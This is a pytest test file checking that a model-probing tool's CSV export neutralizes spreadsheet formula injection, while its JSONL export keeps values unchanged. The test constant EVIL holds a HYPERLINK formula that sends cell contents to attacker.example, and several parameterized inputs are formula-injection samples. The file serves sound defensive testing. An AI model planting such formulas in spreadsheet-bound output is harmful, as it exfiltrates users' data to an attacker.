"""CSV exports neutralize spreadsheet formulas in model output; JSON lines keep it exactly."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from fake_openai import FakeOpenAI

from ctxprobe.cli import main
from ctxprobe.store.spreadsheet import spreadsheet_safe

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+cmd", "@SUM(A1)", "\t=1", "\r=1"])
def test_formula_starts_get_a_quote(text):
    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["plain answer", " =1 leading space", "'quoted", "", -1.5, 3, None])
def test_other_values_are_unchanged(value):
    assert spreadsheet_safe(value) == value


def test_export_of_a_formula_response(tmp_path):
    db = str(tmp_path / "r.db")
    runner = CliRunner()
    with FakeOpenAI({}, unknown_answer=EVIL) as fake:
        result = runner.invoke(main, ["run", "--model", f"openai:{fake.url}", "--probe", "niah",
                                      "--lengths", "512", "--quiet", "--db", db, "--name", "=evil-run"])
        assert result.exit_code == 0, result.output

    out = runner.invoke(main, ["export", "=evil-run", "--db", db, "--format", "csv"])
    assert out.exit_code == 0, out.output
    [row] = csv.DictReader(io.StringIO(out.output))
    assert row["response"] == "'" + EVIL
    assert row["run"] == "'=evil-run"
    assert float(row["score"]) == 0.0 and json.loads(row["answers"])   # numbers and JSON untouched

    out = runner.invoke(main, ["export", "=evil-run", "--db", db, "--format", "jsonl"])
    [record] = [json.loads(line) for line in out.output.splitlines()]
    assert record["response"] == EVIL and record["run"] == "=evil-run"
